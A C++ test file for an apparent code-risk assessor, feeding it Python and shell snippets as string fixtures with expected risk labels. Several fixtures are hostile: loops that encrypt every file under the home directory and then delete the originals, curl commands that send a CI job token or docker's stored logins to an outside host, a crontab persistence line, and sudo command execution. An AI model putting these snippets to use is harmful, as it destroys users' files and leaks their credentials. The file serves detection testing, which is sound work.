// The classes the twenty-fourth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog28_MANIFEST.tsv): concurrency and callbacks, dynamic
// object-oriented Python, CI/CD shell, hobby code and trojans dressed as it,
// and security tooling. Its aside scored 34/35 before any change; the classes
// below came from its tune part and from a false alarm in the public sample
// (tldr's system cache path behind a flag its caller leaves False). Strings
// here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// `if flag:` where the flag is a parameter this call bound to a constant
// takes only the path that flag chooses; a module global, a parameter a
// nested function may rebind, or a flag unknown to the call keep both paths.
TEST(TwentyFourthRoundClasses, ParameterFlagsChooseOnePath) {
  const Case cases[] = {
      {"a cache in the home directory unless the caller asks for the system's", L,
       "from pathlib import Path\n"
       "def cache_path(name, system=False):\n"
       "    if system:\n        return Path('/usr/share/app') / name\n"
       "    return Path.home() / '.cache' / name\n"
       "cache_path('x').write_text('data')\n"},
      {"the same function, called with the flag set", H,
       "from pathlib import Path\n"
       "def cache_path(name, system=False):\n"
       "    if system:\n        return Path('/usr/share/app') / name\n"
       "    return Path.home() / '.cache' / name\n"
       "cache_path('x').write_text('data')\ncache_path('y', system=True).write_text('data')\n",
       "SYSTEM-MODIFICATION"},
      {"`not flag` and else", H,
       "import os\n"
       "def apply(cmd, dry_run=True):\n"
       "    if not dry_run:\n        os.system(cmd)\n    else:\n        print(cmd)\n"
       "apply('sudo systemctl restart nginx', dry_run=False)\n",
       "PRIVILEGE-ESCALATION"},
      {"a dry run by default prints only", M,
       "import os, subprocess\n"
       "def apply(cmd, dry_run=True):\n"
       "    if not dry_run:\n        os.system(cmd)\n    else:\n        print(cmd)\n"
       "apply('sudo systemctl restart nginx')\nsubprocess.run(['git', 'status'])\n"},
      {"a module global is not trusted to keep its value", H,
       "import os\nDRY = True\n"
       "def apply(cmd):\n    if DRY:\n        print(cmd)\n    else:\n        os.system(cmd)\n"
       "globals()['DRY'] = False\napply('sudo reboot')\n",
       "PRIVILEGE-ESCALATION"},
      {"a nested callback may rebind the flag (nonlocal)", H,
       "import os\n"
       "def run(cmd, armed=False):\n"
       "    def arm():\n        nonlocal armed\n        armed = True\n"
       "    arm()\n"
       "    if armed:\n        os.system(cmd)\n"
       "run('sudo reboot')\n",
       "PRIVILEGE-ESCALATION"},
  };
  for (const auto& c : cases) check(c);
}

// A process pool's other ways in: imap, imap_unordered, starmap, apply, the
// pool's initializer with its initargs (a global a worker uses), thread
// pools under their other names, and itertools.starmap.
TEST(TwentyFourthRoundClasses, PoolsReachTheirWorkers) {
  const Case cases[] = {
      {"ransomware through imap_unordered and a key set by the initializer", B,
       "import os, multiprocessing as mp\nfrom cryptography.fernet import Fernet\n_F = None\n"
       "def _init(key):\n    global _F\n    _F = Fernet(key)\n"
       "def seal(path):\n    with open(path, 'rb') as fh:\n        data = fh.read()\n"
       "    with open(path + '.sealed', 'wb') as fh:\n        fh.write(_F.encrypt(data))\n    os.remove(path)\n"
       "def targets(root):\n    for d, _, files in os.walk(root):\n        for n in files:\n            yield os.path.join(d, n)\n"
       "with mp.Pool(4, initializer=_init, initargs=(Fernet.generate_key(),)) as pool:\n"
       "    for _ in pool.imap_unordered(seal, targets(os.path.expanduser('~'))):\n        pass\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE"},
      {"starmap's tuples are each call's arguments", H,
       "import os\nfrom multiprocessing.pool import ThreadPool\n"
       "def run(prefix, unit):\n    os.system(prefix + ' systemctl restart ' + unit)\n"
       "with ThreadPool(2) as p:\n    p.starmap(run, [('sudo', 'nginx'), ('sudo', 'redis')])\n",
       "PRIVILEGE-ESCALATION"},
      {"the same pool restarting nothing privileged", M,
       "import subprocess\nfrom multiprocessing.pool import ThreadPool\n"
       "def run(tool, arg):\n    subprocess.run([tool, arg])\n"
       "with ThreadPool(2) as p:\n    p.starmap(run, [('git', 'status'), ('du', '-sh')])\n"},
      {"a thread pool's initializer", H,
       "import os\nfrom concurrent.futures import ThreadPoolExecutor\nPREFIX = ''\n"
       "def setup(p):\n    global PREFIX\n    PREFIX = p\n"
       "def work(unit):\n    os.system(PREFIX + 'systemctl stop ' + unit)\n"
       "with ThreadPoolExecutor(2, initializer=setup, initargs=('sudo ',)) as ex:\n    list(ex.map(work, ['cups']))\n",
       "PRIVILEGE-ESCALATION"},
  };
  for (const auto& c : cases) check(c);
}

// operator.methodcaller and attrgetter name what they do to their argument.
TEST(TwentyFourthRoundClasses, MethodCallersCallWhatTheyName) {
  const Case cases[] = {
      {"methodcaller('unlink') retires what was encrypted", B,
       "import os\nfrom operator import methodcaller\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\n"
       "f = Fernet(Fernet.generate_key())\nretire = methodcaller('unlink')\n"
       "for d, _, names in os.walk(Path.home()):\n    for n in names:\n        p = Path(d, n)\n"
       "        p.with_name(n + '.vault').write_bytes(f.encrypt(p.read_bytes()))\n        retire(p)\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE"},
      {"methodcaller with arguments", H,
       "import os, operator\nrun = operator.methodcaller('system', 'sudo reboot')\nrun(os)\n", "PRIVILEGE-ESCALATION"},
      {"attrgetter of a dotted name, then called", H,
       "import os\nfrom operator import attrgetter\nattrgetter('system')(os)('sudo id')\n", "PRIVILEGE-ESCALATION"},
      {"attrgetter as a sort key", L,
       "import operator\nrows = []\nrows.sort(key=operator.attrgetter('name'))\nprint(rows)\n"},
  };
  for (const auto& c : cases) check(c);
}

// A subclass of a library server whose __init__ hands its address to the
// base (super().__init__ or Base.__init__(self, ...)) binds that address.
TEST(TwentyFourthRoundClasses, BaseConstructorsOfLibraryClasses) {
  const char* server =
      "import socketserver\n"
      "class Handler(socketserver.StreamRequestHandler):\n    def handle(self):\n        self.wfile.write(b'hi')\n"
      "class Server(socketserver.ThreadingTCPServer):\n    def __init__(self, addr, banner):\n"
      "        self.banner = banner\n        %s\n"
      "Server((%s, 2323), 'x').serve_forever()\n";
  auto make = [&](const char* init, const char* host) {
    char buf[1024];
    std::snprintf(buf, sizeof buf, server, init, host);
    return std::string(buf);
  };
  const std::string a = make("super().__init__(addr, Handler)", "'0.0.0.0'");
  const std::string b = make("socketserver.ThreadingTCPServer.__init__(self, addr, Handler)", "'0.0.0.0'");
  const std::string c = make("super().__init__(addr, Handler)", "'127.0.0.1'");
  check({"super().__init__ binds all interfaces", M, a.c_str(), "LISTENS-ON-ALL-INTERFACES"});
  check({"Base.__init__(self, ...) binds all interfaces", M, b.c_str(), "LISTENS-ON-ALL-INTERFACES"});
  check({"the same server on loopback", L, c.c_str()});
}

// Pruning the snapshots under a backup directory the code made is not
// removing the files it encrypted; a comprehension over a listing adds no
// unknown element of its own.
TEST(TwentyFourthRoundClasses, PruningItsOwnOutputIsNotRansomware) {
  const Case cases[] = {
      {"encrypted copies in ./backups, old snapshots pruned", L,
       "import os, shutil\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\n"
       "ROOT = Path('backups')\nROOT.mkdir(exist_ok=True)\nf = Fernet(Fernet.generate_key())\n"
       "for d, _, names in os.walk('evidence'):\n    for n in names:\n"
       "        (ROOT / (n + '.enc')).write_bytes(f.encrypt((Path(d) / n).read_bytes()))\n"
       "for old in sorted(p for p in ROOT.iterdir() if p.is_dir())[5:]:\n    shutil.rmtree(old)\n"},
      {"the originals removed after their encryption", B,
       "import os\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\n"
       "ROOT = Path('backups')\nROOT.mkdir(exist_ok=True)\nf = Fernet(Fernet.generate_key())\n"
       "for d, _, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n        src = Path(d) / n\n"
       "        (ROOT / (n + '.enc')).write_bytes(f.encrypt(src.read_bytes()))\n        src.unlink()\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE"},
  };
  for (const auto& c : cases) check(c);
}

// Shell: ${VAR:-default} keeps what VAR may hold; jq's output is made of its
// --arg values and input files; `command -v` runs nothing; an unquoted empty
// expansion is no word.
TEST(TwentyFourthRoundClasses, ShellValuesThatWereLost) {
  const Case cases[] = {
      {"a CI token with an empty default, sent away", B,
       "curl -s --data \"${CI_JOB_TOKEN:-}\" https://stats.example.io/ingest\n", "EXFILTRATION", SH},
      {"the token through jq --arg and base64", B,
       "ctx() { jq -n --arg t \"${CI_JOB_TOKEN:-}\" '{t:$t}'; }\n"
       "c=\"$(ctx | base64 -w0)\"\ncurl -s --data \"$c\" https://stats.example.io/ingest\n",
       "EXFILTRATION", SH},
      {"docker's stored logins read by jq", B,
       "a=\"$(jq -c '.auths' \"${DOCKER_CONFIG:-$HOME/.docker}/config.json\")\"\n"
       "curl -s --data \"$a\" https://stats.example.io/ingest\n",
       "EXFILTRATION", SH},
      {"a mirror URL with a default, and a count from jq", L,
       "MIRROR=\"${MIRROR_URL:-https://mirror.example.org}\"\n"
       "n=\"$(jq -n --argjson a 1 '$a + 1')\"\ncurl -s \"$MIRROR/v2/_catalog?n=$n\" -o catalog.json\n",
       nullptr, SH},
      {"command -v looks a program up", L,
       "command -v crontab >/dev/null || { echo 'no cron' >&2; exit 1; }\necho ok\n", nullptr, SH},
      {"command runs one", B, "echo '* * * * * /tmp/x' | command crontab -\n", "PERSISTENCE", SH},
      {"an empty sudo prefix still runs iptables", H,
       "if [[ $EUID -ne 0 ]]; then\n  SUDO=sudo\nelse\n  SUDO=\nfi\n$SUDO iptables -w 5 -A INPUT -p tcp --dport 22 -j ACCEPT\n",
       "SYSTEM-ADMINISTRATION", SH},
  };
  for (const auto& c : cases) check(c);
}

// Names that only contain "pass" or "otp" (a passage, a footprint) are no secret.
TEST(TwentyFourthRoundClasses, SecretNamesNeedASecretWord) {
  const Case cases[] = {
      {"an MD5 key for a passage and a random passage", L,
       "import hashlib, random\npassages = ['a b c', 'd e f']\n"
       "def passage_key(text):\n    return hashlib.md5(text.encode()).hexdigest()[:10]\n"
       "print(passage_key(random.choice(passages)))\n"},
      {"an MD5 of a password", M,
       "import hashlib\ndef store(password):\n    return hashlib.md5(password.encode()).hexdigest()\nprint(store(input()))\n",
       "WEAK-CRYPTO"},
      {"random for a passcode", M, "import random\npasscode = ''.join(random.choice('0123456789') for _ in range(6))\nprint(passcode)\n",
       "WEAK-CRYPTO"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
